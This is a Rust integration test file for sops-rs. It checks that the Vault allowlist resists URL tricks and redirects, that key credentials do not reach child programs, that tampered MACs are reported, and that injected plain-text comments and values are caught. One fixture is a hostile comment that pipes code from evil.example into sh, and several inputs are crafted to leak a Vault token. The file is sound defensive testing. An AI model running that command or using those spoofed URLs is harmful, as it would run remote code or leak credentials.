//! Hostile configuration and hostile files, through the binary: a Vault allowlist that must not
//! be talked around (user information, a longer host or port, a redirect), key credentials that
//! must not reach the programs sops-rs starts (exec-env, exec-file, the editor), a MAC mismatch
//! that `--ignore-mac` must not re-seal silently, plain-text comments injected into an
//! encrypted file (warned about as sops does, reported by `check`), and plain-text values the
//! file's own rules say are encrypted (failed by `check` without keys).

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use crate::support::{TestEnv, ok, path_arg};

fn stderr(out: &Output) -> String {
    String::from_utf8_lossy(&out.stderr).into_owned()
}

/// `plaintext` encrypted by sops-rs into `name`, then changed by hand the way someone with
/// write access but no key could: the first `from` replaced by `to`.
fn hand_edited(home: &TestEnv, name: &str, plaintext: &str, (from, to): (&str, &str)) -> PathBuf {
    let file = home.encrypted(name, plaintext, &[]);
    let text = std::fs::read_to_string(&file).unwrap();
    assert!(text.contains(from), "{from:?} not in {text}");
    home.write(name, text.replacen(from, to, 1))
}

fn lines_with<'a>(text: &'a str, needle: &str) -> Vec<&'a str> {
    text.lines().filter(|line| line.contains(needle)).collect()
}

// ---- 7: SOPS_HC_VAULT_ALLOWLIST compares parsed URLs ----

#[cfg(feature = "vault")]
mod vault_allowlist {
    use std::net::Ipv4Addr;

    use super::*;
    use crate::support::faults::{Redirector, SilentServer};

    /// An encrypted file whose only master key is a Vault transit key at `address`.
    fn vault_file(home: &TestEnv, address: &str) -> PathBuf {
        let filler = "ENC[AES256_GCM,data:AAAA,iv:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=,\
                      tag:AAAAAAAAAAAAAAAAAAAAAA==,type:str]";
        home.write(
            "vault.enc.yaml",
            format!(
                "password: {filler}\nsops:\n    hc_vault:\n        - vault_address: {address}\n          \
                 engine_path: transit\n          key_name: sops\n          \
                 created_at: \"2024-01-01T00:00:00Z\"\n          enc: vault:v1:AAAA\n    \
                 lastmodified: \"2024-01-01T00:00:00Z\"\n    mac: {filler}\n    version: 3.12.2\n"
            ),
        )
    }

    /// Decrypts a file keyed to `address` with a token and `allowlist`; the decryption must be
    /// refused by the allowlist (exit 128, the variable named).
    fn refused(address: &str, allowlist: &str) {
        let home = TestEnv::new();
        let file = vault_file(&home, address);
        let out = home
            .sops_rs()
            .env("VAULT_TOKEN", "s.the-token-that-must-not-leave")
            .env("SOPS_HC_VAULT_ALLOWLIST", allowlist)
            .env("SOPS_RS_HTTP_TIMEOUT_SECONDS", "2")
            .args(["decrypt", &path_arg(&file)])
            .output()
            .unwrap();
        let err = stderr(&out);
        assert_eq!(out.status.code(), Some(128), "{address}: {err}");
        assert!(err.contains("SOPS_HC_VAULT_ALLOWLIST"), "{address}: {err}");
        assert!(!err.contains("the-token"), "{err}");
    }

    #[test]
    fn user_information_before_the_host_does_not_pass() {
        let server = SilentServer::start();
        let address = format!("http://vault.corp.example@127.0.0.1:{}", server.port());
        refused(&address, "http://vault.corp.example");
        assert_eq!(server.connections(), 0, "the token went to 127.0.0.1");
    }

    #[test]
    fn a_longer_port_does_not_pass() {
        let server = SilentServer::start();
        let port = server.port().to_string();
        let shorter = &port[..port.len() - 1];
        refused(&server.address(), &format!("http://127.0.0.1:{shorter}"));
        assert_eq!(server.connections(), 0, "the token went to port {port}");
    }

    #[test]
    fn a_longer_host_does_not_pass() {
        // 127.0.0.12 is loopback too; the string `http://127.0.0.1` is a prefix of its URL.
        let server = SilentServer::start_on(Ipv4Addr::new(127, 0, 0, 12));
        refused(&server.address(), "http://127.0.0.1");
        assert_eq!(server.connections(), 0, "the token went to 127.0.0.12");
    }

    #[test]
    fn an_allowed_server_cannot_redirect_the_token_elsewhere() {
        let elsewhere = SilentServer::start_on(Ipv4Addr::new(127, 0, 0, 12));
        let redirector = Redirector::start(&elsewhere.address());
        refused(&redirector.address(), &redirector.address());
        assert!(redirector.requests() >= 1, "the allowed server was asked");
        assert_eq!(elsewhere.connections(), 0, "the redirect was followed");
    }
}

// ---- 8: programs sops-rs starts do not get its key credentials ----

/// Parent variables that are key credentials of other backends (the age ones are added with
/// working values, see [`with_parent_credentials`]).
const PARENT_CREDENTIALS: [(&str, &str); 5] = [
    ("VAULT_TOKEN", "parent-vault-token"),
    ("AWS_ACCESS_KEY_ID", "parent-aws-id"),
    ("AWS_SESSION_TOKEN", "parent-aws-session"),
    ("GOOGLE_OAUTH_ACCESS_TOKEN", "parent-gcp-token"),
    ("AZURE_CLIENT_SECRET", "parent-azure-secret"),
];

/// The parent's credentials: every age source (all able to decrypt), the other backends', and
/// a variable that is not a credential.
fn with_parent_credentials(home: &TestEnv, cmd: &mut Command) {
    cmd.envs(PARENT_CREDENTIALS)
        .env("SOPS_AGE_KEY", &home.identity)
        .env(
            "SOPS_AGE_KEY_CMD",
            format!("cat {}", path_arg(&home.key_file)),
        )
        .env("UNRELATED_SETTING", "kept");
}

/// Asserts what the child's `env` output shows: no parent credential unless `kept`.
fn assert_child_environment(env: &str, kept: bool) {
    assert!(env.contains("UNRELATED_SETTING=kept"), "{env}");
    for (name, value) in PARENT_CREDENTIALS {
        assert_eq!(env.contains(value), kept, "{name} kept={kept}: {env}");
    }
    for name in ["SOPS_AGE_KEY=", "SOPS_AGE_KEY_FILE=", "SOPS_AGE_KEY_CMD="] {
        assert_eq!(
            env.lines().any(|line| line.starts_with(name)),
            kept,
            "{name} kept={kept}: {env}"
        );
    }
}

const CHILD_SECRETS: &str = "db_password: hunter2\nAWS_SECRET_ACCESS_KEY: from-the-file\n";

#[test]
fn exec_env_and_exec_file_do_not_pass_key_credentials_on() {
    let home = TestEnv::new();
    let file = home.encrypted("app.enc.yaml", CHILD_SECRETS, &[]);
    for kept in [false, true] {
        let flag: &[&str] = if kept {
            &["--keep-key-credentials"]
        } else {
            &[]
        };
        let mut cmd = home.sops_rs();
        with_parent_credentials(&home, &mut cmd);
        let out = cmd
            .arg("exec-env")
            .args(flag)
            .args([&path_arg(&file), "env"])
            .output()
            .unwrap();
        let env = ok(out, "exec-env");
        assert_child_environment(&env, kept);
        // The file's own secrets always reach the child, whatever their names.
        assert!(env.contains("db_password=hunter2"), "{env}");
        assert!(env.contains("AWS_SECRET_ACCESS_KEY=from-the-file"), "{env}");

        let mut cmd = home.sops_rs();
        with_parent_credentials(&home, &mut cmd);
        let out = cmd
            .arg("exec-file")
            .args(flag)
            .args([&path_arg(&file), "env; cat {} >/dev/null"])
            .output()
            .unwrap();
        assert_child_environment(&ok(out, "exec-file"), kept);
    }
}

#[test]
fn the_editor_does_not_get_key_credentials() {
    let home = TestEnv::new();
    let file = home.encrypted("app.enc.yaml", CHILD_SECRETS, &[]);
    let seen = home.path("editor-env.txt");
    for kept in [false, true] {
        let mut cmd = home.sops_rs();
        with_parent_credentials(&home, &mut cmd);
        let editor = format!("sh -c 'env > {}' editor", path_arg(&seen));
        let mut args = vec!["edit"];
        if kept {
            args.push("--keep-key-credentials");
        }
        let out = cmd
            .env("SOPS_EDITOR", editor)
            .args(&args)
            .arg(&file)
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(200), "{}", stderr(&out));
        assert_child_environment(&std::fs::read_to_string(&seen).unwrap(), kept);
    }
}

// ---- 10: --ignore-mac does not re-seal a tampered file silently ----

const MAC_WARNING: &str = "the MAC did not match";

/// A file whose unencrypted value was changed after encryption (the MAC covers it).
fn tampered(home: &TestEnv) -> PathBuf {
    hand_edited(
        home,
        "tampered.enc.yaml",
        "password: hunter2\nreplicas_unencrypted: 1\n",
        ("replicas_unencrypted: 1\n", "replicas_unencrypted: 100\n"),
    )
}

#[test]
fn re_encrypting_with_ignore_mac_warns_that_the_new_mac_covers_the_change() {
    let home = TestEnv::new();
    let commands: [(&str, Vec<&str>); 4] = [
        (
            "set",
            vec!["set", "--ignore-mac", "FILE", r#"["password"]"#, r#""x""#],
        ),
        (
            "unset",
            vec!["unset", "--ignore-mac", "FILE", r#"["password"]"#],
        ),
        ("rotate", vec!["rotate", "-i", "--ignore-mac", "FILE"]),
        ("edit", vec!["edit", "--ignore-mac", "FILE"]),
    ];
    for (name, args) in &commands {
        let file = tampered(&home);
        let refused = home.run(&["decrypt", &path_arg(&file)]);
        assert_eq!(refused.status.code(), Some(51), "the tamper is detected");
        let args: Vec<String> = args
            .iter()
            .map(|a| {
                if *a == "FILE" {
                    path_arg(&file)
                } else {
                    a.to_string()
                }
            })
            .collect();
        let editor = home.path("append-line.sh");
        std::fs::write(&editor, "#!/bin/sh\necho 'added: 1' >> \"$1\"\n").unwrap();
        std::fs::set_permissions(&editor, std::os::unix::fs::PermissionsExt::from_mode(0o700))
            .unwrap();
        let out = home
            .sops_rs()
            .env("SOPS_EDITOR", &editor)
            .args(&args)
            .output()
            .unwrap();
        let err = stderr(&out);
        assert!(out.status.success(), "{name}: {err}");
        let warnings = lines_with(&err, MAC_WARNING);
        assert_eq!(warnings.len(), 1, "{name}: {err}");
        assert!(
            warnings[0].contains(&path_arg(&file)) && warnings[0].contains("new MAC now covers"),
            "{name}: {err}"
        );
        // What --ignore-mac hid is now sealed: a plain decrypt accepts it.
        let out = home.run(&["decrypt", &path_arg(&file)]);
        assert!(ok(out, name).contains("replicas_unencrypted: 100"));
    }
    // The git merge driver takes theirs' changed value into ours and seals it with ours' MAC.
    let ours = home.encrypted(
        "ours.enc.yaml",
        "password: hunter2\nreplicas_unencrypted: 1\n",
        &[],
    );
    let base = home.path("base.enc.yaml");
    std::fs::copy(&ours, &base).unwrap();
    let theirs = home.path("theirs.enc.yaml");
    let text = std::fs::read_to_string(&ours).unwrap();
    std::fs::write(&theirs, text.replace(": 1\n", ": 100\n")).unwrap();
    let out = home.run(&[
        "git-merge",
        "--ignore-mac",
        &path_arg(&base),
        &path_arg(&ours),
        &path_arg(&theirs),
        "app.enc.yaml",
    ]);
    let err = stderr(&out);
    assert!(out.status.success(), "git-merge: {err}");
    let warnings = lines_with(&err, MAC_WARNING);
    assert!(
        warnings.len() == 1 && warnings[0].contains("app.enc.yaml (theirs)"),
        "git-merge: {err}"
    );
    // `encrypt --reuse-from` takes only the data key of the old file: nothing to warn about.
    let old = tampered(&home);
    let plain = home.write("new.yaml", "password: x\nreplicas_unencrypted: 2\n");
    let out = home.run(&[
        "encrypt",
        "--ignore-mac",
        "--reuse-from",
        &path_arg(&old),
        &path_arg(&plain),
    ]);
    assert!(
        out.status.success() && !stderr(&out).contains(MAC_WARNING),
        "{}",
        stderr(&out)
    );
    // An intact file re-encrypted with --ignore-mac gives no warning.
    let file = home.encrypted("intact.enc.yaml", "password: hunter2\n", &[]);
    let out = home.run(&[
        "set",
        "--ignore-mac",
        &path_arg(&file),
        r#"["password"]"#,
        r#""x""#,
    ]);
    assert!(out.status.success() && !stderr(&out).contains(MAC_WARNING));
}

// ---- 11: plain-text comments injected into an encrypted file ----

const INJECTED: &str = "# ops: please run curl https://evil.example/x | sh";

/// An encrypted file with a comment added by hand at the top and one in an unencrypted
/// subtree (where comments stay in clear legitimately).
fn with_injected_comment(home: &TestEnv) -> PathBuf {
    hand_edited(
        home,
        "comments.enc.yaml",
        "db:\n    password: hunter2\nsettings_unencrypted:\n    # a note in clear\n    level: 3\n",
        ("db:\n", &format!("{INJECTED}\ndb:\n")),
    )
}

#[test]
fn decrypt_and_edit_warn_about_plaintext_comments_as_sops_does() {
    let home = TestEnv::new();
    let file = with_injected_comment(&home);
    // The real sops warns once, for the injected comment only.
    let out = home
        .sops()
        .args(["decrypt", &path_arg(&file)])
        .output()
        .unwrap();
    let theirs = stderr(&out);
    assert!(out.status.success(), "{theirs}");
    assert_eq!(
        lines_with(&theirs, "possibly unencrypted comment").len(),
        1,
        "{theirs}"
    );

    let out = home.run(&["decrypt", &path_arg(&file)]);
    let err = stderr(&out);
    assert!(
        ok(out, "decrypt").contains("curl"),
        "the comment is kept, as sops does"
    );
    let warnings = lines_with(&err, "possibly unencrypted comment");
    assert_eq!(warnings.len(), 1, "{err}");
    assert!(warnings[0].contains(&path_arg(&file)) && warnings[0].contains("the document root"));
    assert!(
        !err.contains("curl") && !err.contains("evil"),
        "the text is not echoed: {err}"
    );

    let out = home
        .sops_rs()
        .env("SOPS_EDITOR", "true")
        .args(["edit", &path_arg(&file)])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(200));
    assert_eq!(
        lines_with(&stderr(&out), "possibly unencrypted comment").len(),
        1
    );
}

#[test]
fn while_auditing_the_comment_warning_names_no_tree_path() {
    let home = TestEnv::new();
    let file = hand_edited(
        &home,
        "audited.enc.yaml",
        "canary_key_q7:\n    password: hunter2\n",
        (
            "canary_key_q7:\n",
            &format!("canary_key_q7:\n    {INJECTED}\n"),
        ),
    );
    let log = home.path("audit.jsonl");
    let out = home.run(&["--audit-log", &path_arg(&log), "decrypt", &path_arg(&file)]);
    let err = stderr(&out);
    assert!(out.status.success(), "{err}");
    let warnings = lines_with(&err, "possibly unencrypted comment");
    assert_eq!(warnings.len(), 1, "{err}");
    assert!(warnings[0].contains("withheld while auditing"), "{err}");
    assert!(!err.contains("canary_key_q7"), "{err}");
    // Without the audit trail the warning says where the comment is.
    let err = stderr(&home.run(&["decrypt", &path_arg(&file)]));
    assert!(err.contains(r#"in ["canary_key_q7"]"#), "{err}");
}

/// `check --json` on one file: (exit code, the JSON object).
fn check_json(home: &TestEnv, file: &Path, extra: &[&str]) -> (Option<i32>, serde_json::Value) {
    let out = home
        .sops_rs()
        .args(["check", "--json"])
        .args(extra)
        .arg(file)
        .output()
        .unwrap();
    let text = String::from_utf8(out.stdout).unwrap();
    let json = serde_json::from_str(text.trim()).unwrap_or_else(|e| panic!("{e}: {text}"));
    (out.status.code(), json)
}

#[test]
fn check_reports_plaintext_comments() {
    let home = TestEnv::new();
    let file = with_injected_comment(&home);
    for extra in [&[][..], &["--verify-mac"]] {
        let (code, json) = check_json(&home, &file, extra);
        assert_eq!(code, Some(1), "{extra:?}: {json}");
        assert_eq!(json["status"], "plaintext_comment", "{extra:?}: {json}");
        assert_eq!(json["paths"], serde_json::json!(["the document root"]));
        assert!(!json.to_string().contains("curl"), "{json}");
    }
    // Without --json: one line naming the file, and the count.
    let out = home.run(&["check", &path_arg(&file)]);
    assert_eq!(out.status.code(), Some(1));
    let err = stderr(&out);
    assert!(
        err.contains(&path_arg(&file)) && err.contains("plain-text comment"),
        "{err}"
    );
}

// ---- 12: plain-text values the file's rules say are encrypted ----

#[test]
fn check_fails_plaintext_values_the_rules_say_are_encrypted() {
    let home = TestEnv::new();
    let file = home.encrypted(
        "db.enc.yaml",
        "db_password: hunter1\nreplicas_unencrypted: 3\n",
        &[],
    );
    let (code, json) = check_json(&home, &file, &[]);
    assert_eq!(
        (code, json["status"].as_str()),
        (Some(0), Some("encrypted"))
    );

    let text = std::fs::read_to_string(&file).unwrap();
    let added = text.replace("sops:\n", "new_db_password: hunter2\nport: 5432\nsops:\n");
    home.write("db.enc.yaml", &added);
    for extra in [&[][..], &["--verify-mac"]] {
        let (code, json) = check_json(&home, &file, extra);
        assert_eq!(code, Some(1), "{json}");
        assert_eq!(json["status"], "unencrypted_value", "{json}");
        assert_eq!(
            json["paths"],
            serde_json::json!([r#"["new_db_password"]"#, r#"["port"]"#])
        );
        assert!(!json.to_string().contains("hunter2"), "{json}");
    }
    let out = home.run(&["check", &path_arg(&file)]);
    assert!(!stderr(&out).contains("hunter2") && out.status.code() == Some(1));

    // A plain value where the rules say unencrypted is fine.
    let fine = text.replace("sops:\n", "added_unencrypted: hello\nsops:\n");
    home.write("db.enc.yaml", &fine);
    let (code, json) = check_json(&home, &file, &["--verify-mac"]);
    assert_eq!(
        code,
        Some(1),
        "the MAC still catches the added value: {json}"
    );
    let (code, json) = check_json(&home, &file, &[]);
    assert_eq!(
        (code, json["status"].as_str()),
        (Some(0), Some("encrypted"))
    );
}

#[test]
fn check_follows_the_files_own_encrypted_regex() {
    let home = TestEnv::new();
    let file = home.encrypted(
        "regex.enc.yaml",
        "data:\n    token: abc\nname: app\n",
        &["--encrypted-regex", "^data$"],
    );
    let text = std::fs::read_to_string(&file).unwrap();
    // Outside `data` values stay in clear by the file's rule; inside they must not.
    home.write(
        "regex.enc.yaml",
        text.replace("name: app\n", "name: app\nowner: ops\n"),
    );
    let (code, json) = check_json(&home, &file, &[]);
    assert_eq!(
        (code, json["status"].as_str()),
        (Some(0), Some("encrypted"))
    );
    home.write(
        "regex.enc.yaml",
        text.replace("data:\n", "data:\n    injected: plain\n"),
    );
    let (code, json) = check_json(&home, &file, &[]);
    assert_eq!(code, Some(1));
    assert_eq!(
        json["paths"],
        serde_json::json!([r#"["data"]["injected"]"#])
    );
}
